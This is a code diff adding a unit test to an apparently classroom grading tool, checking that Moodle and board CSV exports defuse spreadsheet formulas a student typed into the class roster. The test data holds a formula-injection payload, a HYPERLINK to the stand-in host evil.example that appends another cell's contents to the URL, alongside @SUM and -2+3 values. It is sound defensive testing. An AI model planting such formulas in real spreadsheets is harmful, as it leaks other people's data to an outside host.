@@ -8,6 +8,7 @@ import ExcelJS from 'exceljs';
 import { check, type CheckOptions } from '../../src/commands/check.js';
 import type { Board } from '../../src/core/board-model.js';
 import type { Engine } from '../../src/docker/engine.js';
+import { personAt, parseRoster } from '../../src/core/roster.js';
 import { LabctlError } from '../../src/errors.js';
 import { boardCsv, boardTable } from '../../src/ui/board.js';
 import { boardXlsx, moodleCsv } from '../../src/ui/grades.js';
@@ -69,6 +70,34 @@ describe('grades out', () => {
       'pop-login': '1',
       Total: '2',
     });
+  });
+
+  it('keeps formulas a student wrote into the class list as text, in both CSVs', () => {
+    // A student who filled in the enrolment form with spreadsheet formulas, as the class list then holds them.
+    const [evil] = parseRoster(
+      'nom;email;numero;groupe\n' +
+        '"=HYPERLINK(""http://evil.example/?""&B3,""Voir ma note"")";eve@etud.example.fr;@SUM(1+1);-2+3\n',
+      'l3.csv',
+    );
+    assert.ok(evil);
+    const sheet: Board = {
+      ...board,
+      students: [
+        {
+          student: 1,
+          ...personAt({ class: 'ro1', importedAt: '', source: '', people: [evil] }, 1),
+          exercises: result([true, false]),
+        },
+      ],
+    };
+    const cells = [
+      ...parse(moodleCsv(sheet).csv, { relax_column_count: true }).flat(),
+      ...parse(boardCsv(sheet), { relax_column_count: true }).flat(),
+    ] as string[];
+    const formulas = cells.filter((c) => /^[=+\-@\t\r]/.test(c));
+    assert.deepEqual(formulas, [], 'a spreadsheet would run these');
+    assert.ok(cells.includes(`'=HYPERLINK("http://evil.example/?"&B3,"Voir ma note")`), cells.join(' | '));
+    assert.ok(cells.includes("'@SUM(1+1)") && cells.includes("'-2+3"), cells.join(' | '));
   });
 
   it('writes nothing for Moodle without a roster', () => {
